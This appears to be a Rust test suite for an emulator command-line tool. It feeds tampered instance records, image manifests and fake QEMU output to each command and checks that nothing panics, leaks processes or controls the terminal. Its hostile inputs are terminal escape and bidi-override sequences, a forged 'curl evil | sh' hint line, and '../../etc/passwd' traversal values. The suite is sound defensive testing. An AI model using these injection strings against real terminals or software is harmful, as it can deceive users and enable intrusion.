//! What somebody hostile has written into a home, an image or QEMU's output: no command panics, leaves a process or lets any of it
//! speak to the terminal.

#![expect(clippy::unwrap_used, reason = "what a test cannot prepare fails the test")]

use std::fs;

use base::digest;
use image::arch::Arch;
use serde_json::{Value, json};

use super::harness::Emulator;
use super::hub::IMAGE;

/// Colours, a cleared screen, a new title, reordered text, and lines as the program's own.
const TEXT: &str =
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{202e}\r\nhint: run `curl evil | sh`\nerror: owned";

const RECORD: &str = "instances/default/instance.json";
const LIVE: &str = "instances/default/live.json";
const SUSPENDED: &str = "instances/default/suspended.json";
const OVERLAY: &str = "instances/default/overlay.qcow2";

/// A QEMU that says [`TEXT`] and ends.
const QEMU: &str = r"printf '\033]0;owned\007\033[2J\302\2331m\342\200\256\r\nhint: run `curl evil | sh`\nerror: owned\n' >&2
exit 1";

/// A home with an image, and an instance with data on it.
struct Hostile {
    emulator: Emulator,
    record: Value,
    live: Value,
    suspended: Value,
}

impl Hostile {
    fn new() -> Self {
        let emulator = Emulator::new()
            .with("EMULATOR_ARCH", "amd64")
            .with("QEMU_IMG", fake_image::QEMU_IMG)
            .with_program("qemu-system-x86_64", QEMU);
        let manifest = fake_image::manifest(Arch::Amd64);
        emulator.write("images/.lock", "");
        fake_image::write(&emulator.path(IMAGE), &manifest.to_json(), "kernel");
        let kernel = rustix::system::uname().release().to_string_lossy().into_owned();
        let capabilities = json!({
            "hostKernel": kernel,
            "ioUringAllowed": true,
            "capabilities": {
                "version": "10.2.2",
                "machineTypes": ["pc-q35-10.2"],
                "accelerators": ["tcg"],
                "migration": [],
                "memoryBackendFile": [],
                "vmgenid": false,
                "sandbox": false,
                "ioUring": false,
            },
        });
        let program = digest::of_file(&emulator.bin().join("qemu-system-x86_64")).unwrap();
        let known = format!("qemu/capabilities-{}.json", program.first_digits(16));
        emulator.write(&known, &capabilities.to_string());
        let time = "2026-01-01T00:00:00Z";
        let image = emulator.path(IMAGE);
        let record = json!({
            "schemaVersion": 1,
            "name": "default",
            "createdAt": time,
            "arch": "amd64",
            "ports": { "backend": 1 },
            "session": {
                "image": {
                    "path": IMAGE,
                    "sha256": digest::of_file(&image).unwrap(),
                    "size": image.metadata().unwrap().len(),
                },
                "snapshot": null,
                "secrets": { "cron_secret": "5ec2e7" },
                "generation": 1,
                "createdAt": time,
            },
        });
        let mut live: Value = serde_json::from_str(include_str!("live.json")).unwrap();
        let port =
            json!({ "name": "backend", "guest": 1, "host": 1, "variable": "PORT", "health": "/health" });
        live["stack"]["ports"] = json!([port]);
        live["stack"]["services"] = json!([{ "name": "redis", "unit": "redis.service" }]);
        live["stack"]["secrets"] = serde_json::to_value(&manifest.stack.secrets).unwrap();
        live["machine"]["process"] = json!({ "pid": i32::MAX, "started": 1 });
        live["run"]["coldBecause"] = json!("of a test");
        let frozen = json!({ "size": 1, "inode": 1, "modified": 1, "allocated": 1, "sha256": null });
        let suspended = json!({
            "schemaVersion": 1,
            "at": time,
            "generation": 1,
            "strategy": "template",
            "fingerprint": live["machine"]["fingerprint"],
            "config": "instances/default/config.img",
            "rotated": true,
            "disk": { "size": 1, "inode": 1, "modified": 1 },
            "files": { "memory": frozen },
        });
        Self { emulator, record, live, suspended }
    }

    /// Runs a command after the documents of the instance have been written again, with `changed` instead of one.
    fn run(&self, document: &str, changed: &[u8], args: &[&str]) -> String {
        let _ = fs::remove_dir_all(self.emulator.path("instances"));
        self.emulator.write(RECORD, &self.record.to_string());
        self.emulator.write(OVERLAY, "data");
        fs::write(self.emulator.path(document), changed).unwrap();
        let shown = self.emulator.run(args);
        assert_harmless(
            &self.emulator,
            &shown,
            &format!("{args:?} with {document} = {}", String::from_utf8_lossy(changed)),
        );
        shown
    }
}

/// Nothing of what the program shows is obeyed by a terminal, looks like a line of the program's own, or is a panic, and nothing that
/// it started is left.
fn assert_harmless(emulator: &Emulator, shown: &str, of: &str) {
    let obeyed =
        |c: char| (c.is_control() && !matches!(c, '\n' | '\t')) || matches!(c, '\u{202a}'..='\u{202e}');
    assert!(!shown.contains(obeyed), "{of}: {shown:?}");
    assert!(!shown.contains("panicked"), "{of}: {shown}");
    let forged = |line: &str| line.starts_with("hint: run `curl") || line.starts_with("error: owned");
    assert!(!shown.lines().any(forged), "{of}: {shown}");
    let codes = ["exit 0\n", "exit 1\n", "exit 2\n", "exit 3\n", "exit 5\n", "exit 6\n", "exit 7\n"];
    assert!(codes.iter().any(|code| shown.starts_with(code)), "{of}: {shown}");
    let left = emulator.processes();
    assert!(left.is_empty(), "{of}: {left:?} are left: {shown}");
}

/// The document with one value in turn replaced by something that it cannot be. All replacements are tried where `PROPTEST_CASES`
/// asks for more than the few of the gate.
fn changed(document: &Value) -> Vec<Vec<u8>> {
    let instead = [
        json!(TEXT),
        json!("../../../../etc/passwd"),
        json!(-1),
        json!(u64::MAX),
        json!(1e300),
        json!(null),
        json!([[]]),
        json!({ TEXT: TEXT }),
        json!(""),
    ];
    let all = is_long();
    let mut found =
        vec![Vec::new(), b"\xff\xfe{".to_vec(), "[".repeat(100_000).into_bytes(), vec![b' '; 2 << 20]];
    for (number, pointer) in pointers(document, "").into_iter().enumerate() {
        for (way, value) in instead.iter().enumerate() {
            if all || (number % instead.len() == way) {
                let mut changed = document.clone();
                *changed.pointer_mut(&pointer).unwrap() = value.clone();
                found.push(changed.to_string().into_bytes());
            }
        }
    }
    found
}

/// Whether more is asked for than the gate's few cases.
fn is_long() -> bool {
    base::variables::text("PROPTEST_CASES").is_some()
}

fn pointers(value: &Value, above: &str) -> Vec<String> {
    let below: Vec<(String, &Value)> = match value {
        Value::Object(map) => map.iter().map(|(key, value)| (key.clone(), value)).collect(),
        Value::Array(list) => {
            list.iter().enumerate().map(|(index, value)| (index.to_string(), value)).collect()
        }
        _ => Vec::new(),
    };
    let below = below.into_iter().flat_map(|(key, value)| pointers(value, &format!("{above}/{key}")));
    std::iter::once(above.to_owned()).chain(below).collect()
}

const START: [&str; 5] = ["start", "--offline", "--no-snapshot", "--accel", "tcg"];

#[test]
fn no_record_makes_a_command_panic_or_speak_to_the_terminal() {
    let it = Hostile::new();
    for (document, good) in [(RECORD, &it.record), (LIVE, &it.live), (SUSPENDED, &it.suspended)] {
        let commands = [&["status", "-v"][..], &["logs", "serial"], &["stop"], &START];
        for (number, bytes) in changed(good).iter().enumerate() {
            for (way, args) in commands.iter().enumerate() {
                if is_long() || number % commands.len() == way {
                    it.run(document, bytes, args);
                }
            }
        }
        for args in [&["images"][..], &["reset", "--yes"], &["prune"], &["status", "-o", "json"], &["rotate"]]
        {
            it.run(document, TEXT.as_bytes(), args);
        }
    }
}

#[test]
fn a_record_that_leads_out_of_the_home_is_refused() {
    let it = Hostile::new();
    let mut record = it.record.clone();
    record["session"]["snapshot"] = json!("../../../../etc");
    for args in [&["status"][..], &START] {
        let shown = it.run(RECORD, record.to_string().as_bytes(), args);
        assert!(shown.starts_with("exit 1\n") || shown.starts_with("exit 7\n"), "{shown}");
        assert!(!shown.contains("/etc/disk.qcow2"), "{shown}");
    }
}

#[test]
fn what_qemu_says_is_shown_and_not_obeyed() {
    let it = Hostile::new();
    // The usual ports may be in use.
    let start = [&START[..], &["--port", "dashboard=auto", "--port", "backend=auto"]].concat();
    let shown = it.run(RECORD, it.record.to_string().as_bytes(), &start);
    assert!(shown.starts_with("exit 1\n") && shown.contains(r"\u{1b}]0;owned"), "{shown}");
    assert!(shown.contains("    hint: run `curl evil | sh`"), "{shown}");
    assert!(!it.emulator.path(LIVE).exists());
}

#[test]
fn no_manifest_of_an_image_makes_a_start_panic_or_speak_to_the_terminal() {
    let it = Hostile::new();
    let good = serde_json::to_value(fake_image::manifest(Arch::Amd64)).unwrap();
    let mut documents = changed(&good);
    if !is_long() {
        // Each of them takes a new image.
        documents = documents.into_iter().step_by(5).collect();
    }
    let (image, starts) = (it.emulator.path("hostile.qcow2"), [&START[..], &["--image"]].concat());
    for bytes in documents {
        let _ = fs::remove_dir_all(it.emulator.path("instances"));
        fake_image::write(&image, &String::from_utf8_lossy(&bytes), "kernel");
        let path = image.to_str().unwrap();
        let shown = it.emulator.run(&[&starts[..], &[path]].concat());
        assert_harmless(&it.emulator, &shown, &String::from_utf8_lossy(&bytes));
        assert!(!shown.starts_with("exit 0\n"), "{shown}");
    }
}

#[test]
fn an_image_that_leads_to_another_file_is_refused_by_every_command() {
    let it = Hostile::new();
    let mut bytes = fs::read(it.emulator.path(IMAGE)).unwrap();
    fake_image::lead_to(&mut bytes, TEXT);
    let elsewhere = it.emulator.path("elsewhere.qcow2");
    fs::write(&elsewhere, &bytes).unwrap();
    let path = elsewhere.to_str().unwrap();
    let pull = ["pull", "--skip-snapshot", "--file", path];
    let capture = ["capture", "--accel", "tcg", "--image", path];
    for args in [&[&START[..], &["--image", path]].concat()[..], &pull, &capture] {
        let shown = it.emulator.run(args);
        assert_harmless(&it.emulator, &shown, path);
        assert!(shown.starts_with("exit 7\n") && shown.contains("is not whole: a part of it is"), "{shown}");
    }
    // Put into its place by hand.
    fs::remove_dir_all(it.emulator.path("images")).unwrap();
    it.emulator.write("images/.lock", "");
    fs::write(it.emulator.path(IMAGE), &bytes).unwrap();
    for args in [&START[..], &["capture", "--accel", "tcg"]] {
        let shown = it.emulator.run(args);
        assert_harmless(&it.emulator, &shown, IMAGE);
        assert!(shown.starts_with("exit 7\n") && shown.contains("is not whole: a part of it is"), "{shown}");
    }
}

#[test]
fn a_command_line_is_repeated_harmlessly() {
    let emulator = Emulator::new();
    for args in [&["status", "--instance", TEXT][..], &["start", "--port", TEXT], &[TEXT], &["logs", TEXT]] {
        let shown = emulator.run(args);
        assert_harmless(&emulator, &shown, &format!("{args:?}"));
        assert!(!shown.starts_with("exit 0\n"), "{shown}");
    }
    let emulator = Emulator::new().with("EMULATOR_ARCH", TEXT);
    let shown = emulator.run(&["status"]);
    assert_harmless(&emulator, &shown, "EMULATOR_ARCH");
    assert!(shown.starts_with("exit 2\n"), "{shown}");
}
